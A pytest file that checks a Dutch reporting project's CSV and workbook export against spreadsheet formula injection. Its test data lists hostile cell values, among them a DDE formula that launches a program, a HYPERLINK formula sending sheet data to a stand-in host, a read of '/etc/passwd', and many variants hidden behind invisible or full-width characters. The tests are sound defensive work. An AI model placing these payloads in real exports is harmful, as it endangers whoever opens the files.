"""What leaves as a file and does something on the computer of whoever opens it."""

from __future__ import annotations

import ast
import csv
import io
import unicodedata
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from tests.slices.aanlevering.parsers.bestanden import read, write_file

from meldpunt.aanlevering.schrijven import write_tabel_csv, write_tabel_xlsx

SRC = Path(__file__).resolve().parents[2] / "src" / "meldpunt"
CELLEN: dict[str, str] = {
    "a formula": "=1+1",
    "a formula that starts a program": "=cmd|' /C calc'!A0",
    "a formula that sends the sheet away": '=HYPERLINK("https://x.example/?"&A1;"klik")',
    "a formula that reads another file": "='file:///etc/passwd'#$passwd.A1",
    "a formula with a plus": "+1+1",
    "a formula with a minus": "-2+3+cmd|' /C calc'!A0",
    "a formula with an at sign": "@SUM(A1:A9)",
    "a formula behind a tab": "\t=1+1",
    "a formula behind a line end": "\n=1+1",
    "a formula behind a carriage return": "\r=1+1",
    "a formula behind a space": " =1+1",
    "a formula behind a hard space": "\u00a0=1+1",
    "a formula behind a space without width": "\u200b=1+1",
    "a formula behind a byte order mark": "\ufeff=1+1",
    "a formula behind a turn of the reading direction": "\u202e=1+1",
    "a formula behind a word joiner": "\u2060\u2060@SUM(1)",
    "a full-width equals sign": "＝1+1",
    "a full-width plus": "＋1+1",
    "a full-width minus": "－1+1",
    "a full-width at sign": "＠SUM(1)",
    "a small equals sign": "﹦1+1",
    "a minus of mathematics": "−1+1",
    "a quote that opens the next cell": 'x";"=1+1',
    "a semicolon that makes a column": "x;=1+1",
    "a line end that makes a row": "x\r\n=1+1;y",
    "a quote and a line end": '"\n=1+1;"',
    "control signs that break a workbook": "x\x01\x08\x1b=1",
    "a cell longer than a workbook allows": "=" + "x" * 40_000,
}
SIGNS = frozenset("=+-@")


def runs(cel: str) -> bool:
    """Say whether a spreadsheet could take this for a formula, however it reads widths and invisible signs."""
    seen = unicodedata.normalize("NFKC", cel).replace("−", "-")
    return next((sign for sign in seen if unicodedata.category(sign)[0] not in "ZC"), "x") in SIGNS


@pytest.mark.parametrize("naam", CELLEN)
def test_it_refuses_to_hand_out_as_csv(naam: str) -> None:
    """`aanlevering/schrijven.py`: an apostrophe before what would run, and every cell stays one cell."""
    written = write_tabel_csv(["kop", "naast"], [[CELLEN[naam], "naast"]]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(written, newline=""), delimiter=";"))
    assert [len(row) for row in rows] == [2, 2]
    assert rows[1][1] == "naast"
    assert not runs(rows[1][0])
    assert rows[1][0].lstrip("'") == CELLEN[naam].lstrip("'")


@pytest.mark.parametrize("naam", CELLEN)
def test_it_refuses_to_hand_out_as_workbook(naam: str) -> None:
    """`aanlevering/schrijven.py`: every cell of a workbook is text, and no part of it holds a formula."""
    written = write_tabel_xlsx(["kop"], [[CELLEN[naam]]], blad="Lijst")
    cel = load_workbook(io.BytesIO(written)).worksheets[0]["A2"]
    assert (cel.data_type, cel.number_format) == ("s", "@")
    with zipfile.ZipFile(io.BytesIO(written)) as book:
        assert not any(b"<f>" in book.read(part) or b"<f " in book.read(part) for part in book.namelist())


def test_it_refuses_to_run_the_header_of_a_list() -> None:
    """`aanlevering/schrijven.py`: names of columns come from partners too."""
    assert write_tabel_csv(["=1+1"], []).decode("utf-8-sig") == "'=1+1\r\n"


def test_it_takes_a_disarmed_cell_back_as_it_was(tmp_path: Path) -> None:
    """`parsers/ruwbestand.py`: a corrected report comes in without our apostrophe, so that no name changes."""
    kop = ["klantnummer", "achternaam", "gronden", "wat_te_doen"]
    written = write_tabel_csv(kop, [["=K1", "＝Jansen", "g", "w"], ["-K2", "'t Hart", "g", "w"]])
    ruw = read(write_file(tmp_path, written), zoek_kop=True)
    assert ruw.regels["klantnummer"].to_list() == ["=K1", "-K2"]
    assert ruw.regels["achternaam"].to_list() == ["＝Jansen", "'t Hart"]


def test_it_writes_no_list_past_the_one_door() -> None:
    """`aanlevering/schrijven.py` alone writes lists for people.

    `tabelkopie.py` writes for the database, `levering.py` what a program sent, for our own reader of deliveries.
    """
    ours = {SRC / "aanlevering/schrijven.py", SRC / "tabelkopie.py", SRC / "api/partner/levering.py"}
    found = []
    for file in sorted(SRC.rglob("*.py")):
        if file.is_relative_to(SRC / "demo") or file in ours:
            continue
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
            name = ast.unparse(node.func) if isinstance(node, ast.Call) else ""
            if name.rsplit(".", 1)[-1] in {"writer", "DictWriter", "write_csv", "write_excel", "Workbook"}:
                found.append(f"{file.relative_to(SRC)}:{node.lineno} {name}")  # type: ignore[attr-defined]
    assert found == []
